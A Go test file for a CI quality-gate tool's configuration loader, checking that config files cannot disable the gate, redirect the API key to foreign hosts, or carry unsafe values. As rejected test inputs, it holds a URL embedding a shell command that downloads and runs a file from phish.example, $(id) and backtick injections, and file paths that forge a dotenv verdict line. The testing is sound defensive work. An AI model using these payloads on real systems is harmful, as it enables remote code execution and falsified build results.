package config

import (
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/docketqa-gate/docketqa-gate/internal/testutil"
)

// baseEnv is a configuration that runs: key and ids from the environment.
func baseEnv(extra map[string]string) map[string]string {
	env := map[string]string{"DOCKETQA_API_KEY": "k3y-Never-Shown", "DOCKETQA_BLUEPRINT_IDS": "181,182"}
	for k, v := range extra {
		env[k] = v
	}
	return env
}

// TestFileCannotSwitchTheGateOff proves the config file, which a pull
// request can change, cannot hold a setting that lets the gate exit
// without a verdict, and that the refusal names where it may be set.
func TestFileCannotSwitchTheGateOff(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ file, setting, where string }{
		{"demo: true", "demo", "--demo"},
		{"demo-scenario: pass", "demo-scenario", "--demo-scenario"},
		{"dry-run: true", "dry-run", "--dry-run, action input dry-run or DOCKETQA_DRY_RUN"},
		{"detach: m.json", "detach", "--detach, action input detach or DOCKETQA_DETACH"},
		{`{"dry-run": "true"}`, "dry-run", "--dry-run"},
	} {
		t.Run(tc.file, func(t *testing.T) {
			t.Parallel()
			sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": tc.file + "\n"})
			cfg, _, problems := loadSys(t, nil, sys)
			if len(problems) != 1 {
				t.Fatalf("problems %q, want one", problems)
			}
			for _, want := range []string{"gate.yml", "line 1", tc.setting + " cannot be set in a config file", "without a verdict", tc.where} {
				if !strings.Contains(problems[0], want) {
					t.Errorf("problem %q does not say %q", problems[0], want)
				}
			}
			if cfg.Demo || cfg.DryRun || cfg.Detach != "" {
				t.Errorf("the refused setting took effect: %+v", cfg)
			}
		})
	}
	// The same settings from a flag, an input or the environment work.
	for _, tc := range []struct {
		args []string
		env  map[string]string
	}{
		{[]string{"--dry-run"}, nil},
		{nil, map[string]string{"INPUT_DRY-RUN": "true"}},
		{nil, map[string]string{"DOCKETQA_DETACH": "m.json"}},
		{nil, map[string]string{"DOCKETQA_ATTACH": "m.json"}},
	} {
		cfg, _, problems := loadSys(t, tc.args, fakeSystem(baseEnv(tc.env), nil))
		if problems != nil || !(cfg.DryRun || cfg.Detach != "" || cfg.Attach != "") {
			t.Errorf("%v %v: problems %q, config %+v", tc.args, tc.env, problems, cfg)
		}
	}
}

// TestFileCannotChooseTheRuns proves the config file cannot hold --attach,
// which makes the gate judge whatever a manifest records instead of what
// it triggers; and that --attach goes with --blueprint-ids (from the
// environment or from the file, which decides what a normal run triggers
// anyway), for the manifest to be checked against.
func TestFileCannotChooseTheRuns(t *testing.T) {
	t.Parallel()
	sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": "attach: m.json\n"})
	cfg, _, problems := loadSys(t, nil, sys)
	if len(problems) != 1 {
		t.Fatalf("problems %q, want one", problems)
	}
	for _, want := range []string{"gate.yml", "line 1", "attach cannot be set in a config file", "which runs are judged",
		"--attach, action input attach or DOCKETQA_ATTACH"} {
		if !strings.Contains(problems[0], want) {
			t.Errorf("problem %q does not say %q", problems[0], want)
		}
	}
	if cfg.Attach != "" {
		t.Errorf("the refused setting took effect: %+v", cfg)
	}
	for _, tc := range []struct {
		env  map[string]string
		file string
	}{
		{map[string]string{"DOCKETQA_ATTACH": "m.json"}, ""},
		{map[string]string{"DOCKETQA_ATTACH": "m.json", "DOCKETQA_BLUEPRINT_IDS": "", "DOCKETQA_CONFIG": "gate.yml"}, "blueprint-ids: 181,182\n"},
	} {
		env := baseEnv(tc.env)
		if env["DOCKETQA_BLUEPRINT_IDS"] == "" {
			delete(env, "DOCKETQA_BLUEPRINT_IDS")
		}
		cfg, _, problems := loadSys(t, nil, fakeSystem(env, map[string]string{"gate.yml": tc.file}))
		if problems != nil || cfg.Attach != "m.json" || !slices.Equal(cfg.BlueprintIDs, []int64{181, 182}) {
			t.Errorf("%v: problems %q, attach %q, ids %v", tc.env, problems, cfg.Attach, cfg.BlueprintIDs)
		}
	}
}

// TestFileBaseURL proves a file can point the API (and so the key) and
// the dashboard links only at DocketQA's own https hosts: not even at
// loopback, where anything an earlier step of the job started could
// listen. Any other host needs a flag, an input or a variable.
func TestFileBaseURL(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"base-url", "dashboard-url"} {
		where := map[string]string{"base-url": "--base-url, action input base-url or DOCKETQA_BASE_URL",
			"dashboard-url": "--dashboard-url or DOCKETQA_DASHBOARD_URL"}[name]
		for _, tc := range []struct {
			url string
			ok  bool
		}{
			{"https://api.docketqa.com", true},
			{"https://docketqa.com/api", true},
			{"https://eu.api.DocketQA.com", true},
			{"http://127.0.0.1:8080", false},
			{"http://localhost:9", false},
			{"https://localhost:9", false},
			{"https://[::1]:8443", false},
			{"https://any.host", false},
			{"https://docketqa.com.evil.example", false},
			{"https://evildocketqa.com", false},
			{"https://docketqa.com.", false},
			{"https://10.0.0.1", false},
		} {
			t.Run(name+" "+tc.url, func(t *testing.T) {
				t.Parallel()
				sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": name + ": " + tc.url + "\n"})
				cfg, _, problems := loadSys(t, nil, sys)
				if tc.ok {
					if problems != nil {
						t.Fatalf("problems %q", problems)
					}
					return
				}
				if len(problems) != 1 || !strings.Contains(problems[0], name) || !strings.Contains(problems[0], "config file gate.yml line 1") ||
					!strings.Contains(problems[0], where) {
					t.Fatalf("problems %q, want one naming the setting, the file and where else to set it", problems)
				}
				if cfg.BaseURL != "" || cfg.DashboardURL != "" {
					t.Errorf("BaseURL = %q, DashboardURL = %q", cfg.BaseURL, cfg.DashboardURL)
				}
			})
		}
	}
	// The same hosts from a flag, an input or the environment are the
	// user's choice: loopback is how the simulator and tests run.
	for _, env := range []map[string]string{{"DOCKETQA_BASE_URL": "https://any.host"}, {"INPUT_BASE-URL": "https://any.host"},
		{"DOCKETQA_BASE_URL": "http://127.0.0.1:8080"}} {
		sys := fakeSystem(baseEnv(env), nil)
		if cfg, _, problems := loadSys(t, nil, sys); problems != nil || cfg.BaseURL == "" {
			t.Errorf("%v: %q %q", env, cfg.BaseURL, problems)
		}
	}
	// And a flag beats the file: the file's host is never checked, or used.
	sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": "base-url: https://any.host\n"})
	if cfg, _, problems := loadSys(t, []string{"--base-url", "http://127.0.0.1:1"}, sys); problems != nil || cfg.BaseURL != "http://127.0.0.1:1" {
		t.Errorf("flag over file: %q %q", cfg.BaseURL, problems)
	}
}

// TestURLShellSyntax proves a base or dashboard URL, from anywhere, holds
// nothing a shell acts on: net/url keeps $ ( ) ' ` ; as they are, and the
// dashboard root becomes the group-run-url output later steps may paste
// into a script.
func TestURLShellSyntax(t *testing.T) {
	t.Parallel()
	for _, u := range []string{
		"https://phish.example/x/$(curl$IFS-o$IFS/tmp/p$IFS'phish.example/p')$(sh$IFS/tmp/p)",
		"https://app.docketqa.com/$(id)",
		"https://app.docketqa.com/`id`",
		"https://app.docketqa.com/a;id",
		"https://app.docketqa.com/a%20b",
		"https://app.docketqa.com/a%2Fb",
		"https://app.docketqa.com/a'b",
		"https://app.docketqa.com/?q=1",
		"https://app.docketqa.com/#x",
		"https://app$IFS.docketqa.com/",
	} {
		for _, name := range []string{"DOCKETQA_DASHBOARD_URL", "DOCKETQA_BASE_URL"} {
			t.Run(name+" "+u, func(t *testing.T) {
				t.Parallel()
				cfg, _, problems := loadSys(t, nil, fakeSystem(baseEnv(map[string]string{name: u}), nil))
				if len(problems) != 1 || !strings.Contains(problems[0], name) {
					t.Fatalf("problems %q, want one naming %s", problems, name)
				}
				if !strings.Contains(problems[0], "- . _ ~ /") && !strings.Contains(problems[0], "?query") &&
					!strings.Contains(problems[0], "absolute URL") {
					t.Errorf("problem %q does not say what is allowed", problems[0])
				}
				if cfg.DashboardURL != "" || cfg.BaseURL != "" {
					t.Errorf("the URL took effect: %q %q", cfg.DashboardURL, cfg.BaseURL)
				}
			})
		}
	}
	// The same from the file, where the host rule would refuse it anyway.
	sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}),
		map[string]string{"gate.yml": `dashboard-url: "https://app.docketqa.com/x/$(sh$IFS/tmp/p)"` + "\n"})
	if _, _, problems := loadSys(t, nil, sys); len(problems) != 1 || !strings.Contains(problems[0], "- . _ ~ /") {
		t.Errorf("problems %q", problems)
	}
}

// TestDemoWithBaseURL makes the precedence explicit: a demo never ignores
// a base URL silently, wherever either comes from.
func TestDemoWithBaseURL(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		args []string
		env  map[string]string
	}{
		{[]string{"--demo", "--base-url", "http://127.0.0.1:1"}, nil},
		{[]string{"--demo-scenario", "fail"}, map[string]string{"DOCKETQA_BASE_URL": "http://127.0.0.1:1"}},
	} {
		_, _, problems := loadSys(t, tc.args, fakeSystem(tc.env, nil))
		if len(problems) != 1 || !strings.Contains(problems[0], "--demo") || !strings.Contains(problems[0], "--base-url") {
			t.Errorf("%v %v: problems %q, want one naming --demo and --base-url", tc.args, tc.env, problems)
		}
	}
	if _, _, problems := loadSys(t, []string{"--demo"}, fakeSystem(nil, nil)); problems != nil {
		t.Errorf("--demo alone: %q", problems)
	}
}

// TestFilePolicies proves the policies the file set are listed for the
// summary, and only those.
func TestFilePolicies(t *testing.T) {
	t.Parallel()
	sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml", "DOCKETQA_FAIL_ON_NO_VERDICT": "false"}),
		map[string]string{"gate.yml": "fail-on-missing: false\nnon-blocking-ids: [182]\nfail-on-no-verdict: true\ntimeout: 5m\n"})
	cfg, _, problems := loadSys(t, nil, sys)
	if problems != nil {
		t.Fatal(problems)
	}
	want := []string{"non-blocking-ids=182", "fail-on-missing=false"}
	if got := cfg.FilePolicies(); !slices.Equal(got, want) {
		t.Errorf("FilePolicies = %q, want %q", got, want)
	}
	if got := (Config{}).FilePolicies(); got != nil {
		t.Errorf("no file: %q", got)
	}
	// With fail-on-no-verdict from the file too, the file's timeout
	// decides how long a run may go without a verdict: it is named.
	sys = fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}),
		map[string]string{"gate.yml": "fail-on-no-verdict: false\ntimeout: 5s\n"})
	if cfg, _, problems = loadSys(t, nil, sys); problems != nil {
		t.Fatal(problems)
	}
	got := cfg.FilePolicies()
	if !slices.Contains(got, "timeout=5s") || !slices.Contains(got, "fail-on-no-verdict=false") || len(got) != 2 {
		t.Errorf("FilePolicies = %q, want timeout=5s and fail-on-no-verdict=false", got)
	}
}

// TestConfigFileOnDisk reads real files through the default reader: a
// link (to a device or anything), a FIFO, a directory and an oversized
// file are configuration errors that say what is wrong, never a hang or
// an unbounded read.
func TestConfigFileOnDisk(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	zero := filepath.Join(dir, "zero.yml")
	if err := os.Symlink("/dev/zero", zero); err != nil {
		t.Skipf("no symlinks: %v", err)
	}
	big := filepath.Join(dir, "big.yml")
	if err := os.WriteFile(big, []byte("# "+strings.Repeat("x", int(ConfigFileKind.Max))+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	good := filepath.Join(dir, "good.yml")
	if err := os.WriteFile(good, []byte("timeout: 45m\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ path, want string }{
		{zero, "symbolic link"},
		{"/dev/zero", "character device"},
		{dir, "directory"},
		{big, "larger than 1 MiB"},
		{filepath.Join(dir, "missing.yml"), "no such file"},
	} {
		_, _, err := LoadSystem(nil, System{Getenv: testutil.Getenv(baseEnv(map[string]string{"DOCKETQA_CONFIG": tc.path}))})
		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "config file") {
			t.Errorf("%s: error %v, want one saying %q", tc.path, err, tc.want)
		}
		if err != nil && strings.Count(err.Error(), tc.path) != 1 {
			t.Errorf("%s: the path is named %d times: %v", tc.path, strings.Count(err.Error(), tc.path), err)
		}
	}
	if cfg, _, err := LoadSystem(nil, System{Getenv: testutil.Getenv(baseEnv(map[string]string{"DOCKETQA_CONFIG": good}))}); err != nil || cfg.Timeout.Minutes() != 45 {
		t.Errorf("a good file: %v %v", cfg.Timeout, err)
	}
}

// TestInvisiblePaths proves no path setting, from a flag, a variable or
// the config file, may hold a character that would give the file another
// name than the one the outputs and the log show: a line break (which
// would also forge a dotenv line when printed), a control character, an
// invisible format character, a separator or bytes that are not UTF-8.
func TestInvisiblePaths(t *testing.T) {
	t.Parallel()
	bad := []string{"j\nDOCKETQA_VERDICT=passed.xml", "a\rb.xml", "a\tb.xml", "a\x1b[31mb.xml", "a\x00b.xml", "a\x7fb.xml",
		"a\u0085b.xml", "a\u200bb.xml", "a\u202eb.xml", "a\u2066b.xml", "a\ufeffb.xml", "a\u2028b.xml", "a\xffb.xml"}
	flags := []string{"--junit", "--summary", "--results-json", "--dotenv", "--detach", "--attach", "--history",
		"--artifacts-dir", "--config"}
	for _, flag := range flags {
		for _, p := range bad {
			t.Run(flag+" "+strconv.Quote(p), func(t *testing.T) {
				t.Parallel()
				_, _, problems := loadSys(t, []string{flag + "=" + p}, fakeSystem(baseEnv(nil), map[string]string{p: "timeout: 5m\n"}))
				if len(problems) != 1 || !strings.Contains(problems[0], flag) || !strings.Contains(problems[0], "visible characters only") {
					t.Errorf("problems %q, want one naming %s", problems, flag)
				}
			})
		}
	}
	// From the file, as the review found it: the outputs would show one
	// name and the gate write another.
	for _, key := range []string{"junit", "summary", "results-json", "dotenv", "history", "artifacts-dir"} {
		sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}),
			map[string]string{"gate.yml": key + `: "j\nDOCKETQA_VERDICT=passed.xml"` + "\n"})
		cfg, _, problems := loadSys(t, nil, sys)
		if len(problems) != 1 || !strings.Contains(problems[0], "gate.yml") || !strings.Contains(problems[0], "line break") {
			t.Errorf("%s: problems %q", key, problems)
		}
		if cfg.JUnitPath != "" && strings.ContainsRune(cfg.JUnitPath, '\n') {
			t.Errorf("%s: the error report would go to %q", key, cfg.JUnitPath)
		}
	}
	// Visible non-ASCII names are fine.
	if _, _, problems := loadSys(t, []string{"--junit=résultats/ü-日本.xml"}, fakeSystem(baseEnv(nil), nil)); problems != nil {
		t.Errorf("a visible name was refused: %q", problems)
	}
}
